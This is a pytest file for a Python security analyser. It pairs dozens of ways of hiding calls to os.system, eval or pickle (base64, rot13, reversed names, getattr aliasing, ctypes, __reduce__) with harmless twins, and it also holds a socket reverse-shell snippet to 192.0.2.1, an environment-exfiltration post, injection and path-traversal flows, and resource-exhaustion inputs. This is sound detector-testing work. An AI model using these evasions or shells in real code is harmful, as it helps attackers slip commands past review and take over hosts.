"""Our own rules: each rule's two examples, and each way round a name that is known, beside a harmless twin."""

import pytest

from orchestrator.gates.flow.analysis import analyse
from orchestrator.gates.flow.families import RULES

WEB = "from flask import request\n"
RUN = "import os\n"

ROUNDABOUT = {
    # name: (evasion, rule, twin)
    "silenced warning": (
        "import urllib3\nurllib3.disable_warnings()\n",
        "HR701",
        "import urllib3\nurllib3.disable_warnings(urllib3.exceptions.DependencyWarning)\n",
    ),
    "environment in a log": (
        "import logging, os\nlogging.info('%s', dict(os.environ))\n",
        "HR607",
        "import logging, os\nlogging.info('%s', os.environ.get('LANG'))\n",
    ),
    "alias": ("e = eval\ne(input())\n", "HR101", "e = len\ne(input())\n"),
    "alias of a constant": ("e = eval\ne('1')\n", "HR101", "e = len\ne('1')\n"),
    "getattr of joined text": (
        RUN + "getattr(os, 'sys' + 'tem')('id')\n",
        "HR201",
        RUN + "getattr(os, 'get' + 'cwd')()\n",
    ),
    "getattr of a getattr": (
        RUN + "g = getattr\ng(os, 'system')(x)\n",
        "HR201",
        RUN + "g = getattr\ng(os, 'getcwd')()\n",
    ),
    "import by text": ("__import__('os').system('id')\n", "HR201", "__import__('os').getcwd()\n"),
    "import_module": (
        "import importlib\nimportlib.import_module('o' + 's').system(x)\n",
        "HR201",
        "import importlib\nimportlib.import_module('o' + 's').getcwd()\n",
    ),
    "reversed text": (RUN + "getattr(os, 'metsys'[::-1])(x)\n", "HR201", RUN + "getattr(os, 'dwcteg'[::-1])()\n"),
    "reversed()": (
        RUN + "getattr(os, ''.join(reversed('metsys')))(x)\n",
        "HR201",
        RUN + "getattr(os, ''.join(reversed('dwcteg')))()\n",
    ),
    "letters by number": (
        RUN + "getattr(os, ''.join(chr(c) for c in [115, 121, 115, 116, 101, 109]))(x)\n",
        "HR201",
        RUN + "getattr(os, ''.join(chr(c) for c in [115, 101, 112]))\n",
    ),
    "base64": (
        "import os, base64\ngetattr(os, base64.b64decode('c3lzdGVt').decode())(x)\n",
        "HR201",
        "import os, base64\ngetattr(os, base64.b64decode('c2Vw').decode())\n",
    ),
    "hexadecimal": (
        RUN + "getattr(os, bytes.fromhex('73797374656d').decode())(x)\n",
        "HR201",
        "bytes.fromhex('7379')\n",
    ),
    "rot13": (
        "import os, codecs\ngetattr(os, codecs.decode('flfgrz', 'rot13'))(x)\n",
        "HR201",
        "import codecs\ncodecs.decode('flfgrz', 'rot13')\n",
    ),
    "format": (
        RUN + "getattr(os, '{}{}'.format('sys', 'tem'))(x)\n",
        "HR201",
        RUN + "getattr(os, '{}'.format('sep'))\n",
    ),
    "percent": (RUN + "getattr(os, '%s%s' % ('sys', 'tem'))(x)\n", "HR201", RUN + "getattr(os, '%s' % ('sep',))\n"),
    "f-string": (RUN + "a = 'sys'\ngetattr(os, f'{a}tem')(x)\n", "HR201", RUN + "a = 'se'\ngetattr(os, f'{a}p')\n"),
    "name chosen at run time": (
        "import os, sys\ngetattr(os, sys.argv[1])(x)\n",
        "HR102",
        "import os, sys\ngetattr(os, 'sep')\n",
    ),
    "attrgetter": (
        "import os, operator\noperator.attrgetter('system')(os)(x)\n",
        "HR201",
        "import os, operator\noperator.attrgetter('sep')(os)\n",
    ),
    "methodcaller": (
        "import os, operator\noperator.methodcaller('system', 'id')(os)\n",
        "HR201",
        "import os, operator\noperator.methodcaller('getcwd')(os)\n",
    ),
    "vars": (RUN + "vars(os)['system'](x)\n", "HR201", RUN + "vars(os)['sep']\n"),
    "__dict__": (
        "import builtins\nbuiltins.__dict__['exec'](x)\n",
        "HR101",
        "import builtins\nbuiltins.__dict__['len'](x)\n",
    ),
    "__dict__.get": (RUN + "os.__dict__.get('system')(x)\n", "HR201", RUN + "os.__dict__.get('sep')\n"),
    "builtins as a dictionary": (
        "__builtins__['ev' + 'al'](input())\n",
        "HR101",
        "__builtins__['le' + 'n'](input())\n",
    ),
    "globals": ("globals()['__builtins__']['eval'](x)\n", "HR101", "globals()['__name__']\n"),
    "getmembers": (
        "import os, inspect\ndict(inspect.getmembers(os))['system'](x)\n",
        "HR201",
        "import os, inspect\ndict(inspect.getmembers(os))['sep']\n",
    ),
    "sys.modules": ("import sys\nsys.modules['os'].system(x)\n", "HR201", "import sys\nsys.modules['os'].getcwd()\n"),
    "module of a module": (
        "import subprocess\nsubprocess.os.system(x)\n",
        "HR201",
        "import subprocess\nsubprocess.os.getcwd()\n",
    ),
    "star import": ("from os import *\nsystem(x)\n", "HR201", "from os import *\ngetcwd()\n"),
    "posix": ("import posix\nposix.system(x)\n", "HR201", "import posix\nposix.getcwd()\n"),
    "find_spec": (
        "import importlib.util\nimportlib.util.find_spec('os').loader.load_module().system(x)\n",
        "HR201",
        "import importlib.util\nimportlib.util.find_spec('os')\n",
    ),
    "__getattribute__": (RUN + "os.__getattribute__('system')(x)\n", "HR201", RUN + "os.__getattribute__('sep')\n"),
    "decorator": (
        "@exec\n@input\nclass X: pass\n",
        "HR101",
        "import dataclasses\n@dataclasses.dataclass\nclass X: pass\n",
    ),
    "subscript": ("class X:\n    __getitem__ = exec\nX()['print(1)']\n", "HR103", "class X:\n    __getitem__ = len\n"),
    "reduce": (
        RUN + "class X:\n    def __reduce__(self):\n        return (os.system, ('id',))\n",
        "HR103",
        "class X:\n    def __reduce__(self):\n        return (X, ())\n",
    ),
    "partial": (
        "from functools import partial\nimport os\nf = partial(os.system)\nf(x)\n",
        "HR201",
        "from functools import partial\nimport os\nf = partial(os.getcwd)\nf()\n",
    ),
    "thread": (
        "import threading, os\nthreading.Thread(target=os.system, args=('id',)).start()\n",
        "HR103",
        "import threading, os\nthreading.Thread(target=os.getcwd).start()\n",
    ),
    "attribute of an object": (
        RUN
        + "class A:\n    def __init__(self):\n        self.r = os.system\n    def go(self, c):\n        self.r(c)\n",
        "HR201",
        RUN + "class A:\n    def __init__(self):\n        self.r = os.getcwd\n    def go(self):\n        self.r()\n",
    ),
    "dictionary": (RUN + "d = {'a': os.system}\nd['a'](x)\n", "HR201", RUN + "d = {'a': os.getcwd}\nd['a']()\n"),
    "list": (RUN + "[os.system][0](x)\n", "HR201", RUN + "[os.getcwd][0]()\n"),
    "tuple": (RUN + "a, b = os.system, 1\na(x)\n", "HR201", RUN + "a, b = os.getcwd, 1\na()\n"),
    "walrus": (RUN + "(s := os.system)(x)\n", "HR201", RUN + "(s := os.getcwd)()\n"),
    "lambda": (RUN + "f = lambda c: os.system(c)\nf(input())\n", "HR201", RUN + "f = lambda: os.getcwd()\nf()\n"),
    "default argument": (RUN + "def f(c, r=os.system):\n    r(c)\n", "HR201", RUN + "def f(r=os.getcwd):\n    r()\n"),
    "global": (
        RUN + "r = None\ndef s():\n    global r\n    r = os.system\ndef t(c):\n    r(c)\n",
        "HR201",
        RUN + "r = None\ndef s():\n    global r\n    r = os.getcwd\ndef t():\n    r()\n",
    ),
    "nested function": (
        "def a():\n    import os\n    def b(c):\n        os.system(c)\n    return b\n",
        "HR201",
        "def a():\n    import os\n    def b():\n        os.getcwd()\n    return b\n",
    ),
    "branch": (
        RUN + "try:\n    f = os.system\nexcept Exception:\n    f = print\nf(x)\n",
        "HR201",
        RUN + "try:\n    f = os.getcwd\nexcept Exception:\n    f = print\nf()\n",
    ),
    "type()": ("type('X', (), {'__call__': eval})()('1')\n", "HR103", "type('X', (), {'__call__': len})()('1')\n"),
    "function of code": (
        "import types\ntypes.FunctionType(compile(x, '', 'exec'), {})()\n",
        "HR101",
        "import types\nisinstance(f, types.FunctionType)\n",
    ),
    "C library": (
        "import ctypes\nctypes.CDLL(None).system(b'id')\n",
        "HR201",
        "import struct\nstruct.calcsize('P')\n",
    ),
    "asynchronous shell": (
        "import asyncio\nasync def f(c):\n    await asyncio.create_subprocess_shell(c)\n",
        "HR201",
        "import asyncio\nasync def f(c):\n    await asyncio.create_subprocess_exec('ls', c)\n",
    ),
    "shell in a dictionary": (
        "import subprocess\nk = {'shell': True}\nsubprocess.Popen(cmd, **k)\n",
        "HR201",
        "import subprocess\nk = {'shell': False}\nsubprocess.Popen(cmd, **k)\n",
    ),
    "sh -c": (
        "import subprocess\nsubprocess.run(['sh', '-c', cmd])\n",
        "HR201",
        "import subprocess\nsubprocess.run(['ls', '-c', name])\n",
    ),
    "terminal": ("import pty\npty.spawn('/bin/bash')\n", "HR203", "import pty\npty.openpty()\n"),
    "reverse shell": (
        "import socket, os\ns = socket.socket()\ns.connect(('192.0.2.1', 1))\nos.dup2(s.fileno(), 0)\n",
        "HR203",
        "import socket\ns = socket.socket()\ns.connect(('192.0.2.1', 1))\n",
    ),
    "posix_spawn": (
        RUN + "def f(p):\n    os.posix_spawn(p, [p], {})\n",
        "HR204",
        "import subprocess\ndef f(p):\n    subprocess.run(['cat', p])\n",
    ),
    "interpreter": (
        "import code\ncode.InteractiveInterpreter().runsource(input())\n",
        "HR101",
        "import codeop\ncodeop.PyCF_DONT_IMPLY_DEDENT\n",
    ),
    "timeit": ("import timeit\ntimeit.timeit(input())\n", "HR101", "import timeit\ntimeit.timeit('1 + 1')\n"),
    "environment sent": (
        "import httpx, os\nhttpx.post('https://example.com', json=dict(os.environ))\n",
        "HR707",
        "import httpx, os\nhttpx.post('https://example.com', headers={'Authorization': os.environ['TOKEN']})\n",
    ),
    "numpy objects": (
        "import numpy as np\nnp.load(p, allow_pickle=True)\n",
        "HR301",
        "import numpy as np\nnp.load(p)\n",
    ),
    "pickle under another name": (
        "import pickle as p\nl = p.loads\nl(data)\n",
        "HR301",
        "import json as p\nl = p.loads\nl(data)\n",
    ),
}

FLOWS = {
    "SQL by join": (
        "def f(c, n):\n    q = ' '.join(['SELECT * FROM t WHERE n =', n])\n    c.execute(q)\n",
        "HR601",
        "def f(c, n):\n    q = ' '.join(['SELECT * FROM t', 'WHERE n = ?'])\n    c.execute(q, (n,))\n",
    ),
    "path with Path": (
        WEB + "from pathlib import Path\n(Path('/x') / request.args['n']).read_text()\n",
        "HR401",
        WEB + "from pathlib import Path\nimport os\n(Path('/x') / os.path.basename(request.args['n'])).read_text()\n",
    ),
    "path of a typed handler": (
        "from fastapi import FastAPI\napp = FastAPI()\n@app.get('/x')\ndef f(name: str):\n    open('/d/' + name)\n",
        "HR401",
        "from fastapi import FastAPI\napp = FastAPI()\n@app.get('/x')\ndef f(name: int):\n    open(f'/d/{name}')\n",
    ),
    "path of a plain server": (
        (
            "from http.server import BaseHTTPRequestHandler\nclass H(BaseHTTPRequestHandler):\n"
            "    def do_GET(self):\n        open('/srv' + self.path)\n"
        ),
        "HR401",
        (
            "from http.server import BaseHTTPRequestHandler\nclass H(BaseHTTPRequestHandler):\n"
            "    def do_GET(self):\n        open('/srv/index.html')\n"
        ),
    ),
    "path through a helper": (
        WEB + "def read(p):\n    return open('/d/' + p)\ndef v():\n    return read(request.args['p'])\n",
        "HR401",
        WEB + "def read(p):\n    return open('/d/' + p)\ndef v():\n    return read('fixed')\n",
    ),
    "path checked afterwards": (
        WEB + "def v():\n    p = '/d/' + request.args['p']\n    f = open(p)\n    if not p.startswith('/d/x'):\n"
        "        return None\n    return f\n",
        "HR401",
        WEB + "def v():\n    p = '/d/' + request.args['p']\n    if not p.startswith('/d/x'):\n        return None\n"
        "    return open(p)\n",
    ),
    "path checked against nothing": (
        WEB
        + "def v():\n    p = request.args['p']\n    if not p.startswith(''):\n        return None\n"
        + "    return open(p)\n",
        "HR401",
        WEB
        + "def v():\n    p = request.args['p']\n    if p not in {'a', 'b'}:\n        return None\n    return open(p)\n",
    ),
    "address": (
        "import requests\n" + WEB + "def v():\n    u = request.args.get('u')\n    return requests.get(u).text\n",
        "HR501",
        "import requests\n" + WEB + "def v():\n    i = request.args.get('i')\n"
        "    return requests.get(f'https://api.example.com/{i}').text\n",
    ),
    "address of a Django view": (
        "import requests\ndef view(request):\n    return requests.get(request.GET['u'])\n",
        "HR501",
        (
            "import requests\ndef view(request):\n"
            "    return requests.get('https://example.com', params={'u': request.GET['u']})\n"
        ),
    ),
    "redirect": (
        WEB + "from flask import redirect\ndef v():\n    t = request.args.get('next', '/')\n    return redirect(t)\n",
        "HR502",
        WEB
        + "from flask import redirect\nfrom urllib.parse import urlparse\n"
        + "def v():\n    t = request.args.get('next', '/')\n"
        "    if urlparse(t).netloc != '':\n        t = '/'\n    return redirect('/x' + t)\n",
    ),
    "unverified context": (
        "import ssl\nc = ssl.create_default_context()\nc.check_hostname = False\nc.verify_mode = ssl.CERT_NONE\n",
        "HR701",
        "import ssl\nc = ssl.create_default_context()\nc.check_hostname = True\nc.verify_mode = ssl.CERT_REQUIRED\n",
    ),
    "session that verifies nothing": (
        "import requests\ns = requests.Session()\ns.verify = False\n",
        "HR701",
        "import requests\ns = requests.Session()\ns.verify = '/etc/ca.pem'\n",
    ),
    "log": (
        "import logging\n" + WEB + "logging.getLogger('a').info('%s', request.args['u'])\n",
        "HR605",
        "import logging\n" + WEB + "u = request.args['u'].replace('\\n', '')\nlogging.getLogger('a').info('%s', u)\n",
    ),
    "command through two functions": (
        "import subprocess\n" + WEB + "def a(x):\n    return b('ping ' + x)\ndef b(y):\n"
        "    return subprocess.run(y, shell=True)\ndef v():\n    return a(request.args['h'])\n",
        "HR201",
        "import subprocess, shlex\n" + WEB + "def v():\n"
        "    return subprocess.run('ping ' + shlex.quote(request.args['h']), shell=True)\n",
    ),
}


def codes(source):
    answer = analyse(source.encode())
    assert answer["error"] == ""
    return {issue["rule"] for issue in answer["issues"]}


@pytest.mark.parametrize("code", RULES)
def test_each_rule_finds_its_bad_example_and_passes_its_good_one(code):
    assert code in codes(RULES[code].bad)
    assert codes(RULES[code].good) == set()


@pytest.mark.parametrize("name", [*ROUNDABOUT, *FLOWS])
def test_no_way_round_a_name_or_a_flow_is_missed_and_its_twin_passes(name):
    evasion, rule, twin = (ROUNDABOUT | FLOWS)[name]
    assert rule in codes(evasion)
    assert codes(twin) == set()


def test_capabilities_are_named_by_what_is_used_and_where():
    uses = analyse(b"import os\nimport httpx as h\n\nh.post('x')\nos.environ.get('A')\n")["uses"]
    assert ["network", "httpx.post", 4] in uses
    assert [u[0] for u in uses] == ["environment", "network"]


def test_what_does_not_parse_is_an_error_and_no_pass():
    assert analyse(b"def f(:\n")["error"].startswith("SyntaxError")
    assert analyse(b"x = 1\0")["error"]


@pytest.mark.parametrize(
    "source",
    [
        "x = " + "'a' + " * 700 + "'b'\n",
        "x = " + "[" * 150 + "]" * 150 + "\n",
        "x = 'a' * 10**9\n",
        "x = 2 ** 10 ** 9\ny = 1 << 10**12\n",
        "x = '{:999999999}'.format(1)\n",
        "x = ['a'] * 10**9\n",
        "\n".join(f"def f{n}(x):\n    return f{n + 1}(x) + f{n + 1}(x)" for n in range(300)) + "\nf0(input())\n",
        "def f(x):\n    return f(f(x))\nf(input())\n",
        "class A(A): pass\n",
        "import re\nre.compile('(' * 90 + ')' * 90)\n",
        "x = " + ".a" * 0 + "a" + ".b" * 700 + "\n",
        "x = [" + "eval," * 3000 + "]\n",
        "".join(f"x{n} = x{n - 1} + x{n - 1}\n" for n in range(1, 200)),
        "".join("if a:\n" + "    x = b\n" for _ in range(2000)),
        "".join("    " * n + "for a in b:\n" for n in range(12)) + "    " * 12 + "x = f(x)\n",
    ],
    ids=[
        "sum",
        "nested",
        "large-string",
        "large-number",
        "format",
        "list",
        "calls",
        "recursion",
        "class",
        "pattern",
        "attributes",
        "evals",
        "chain",
        "branches",
        "loops",
    ],
)
def test_hostile_source_ends_soon(source):
    import time

    started = time.process_time()
    assert analyse(source.encode())["error"] == ""
    assert time.process_time() - started < 5
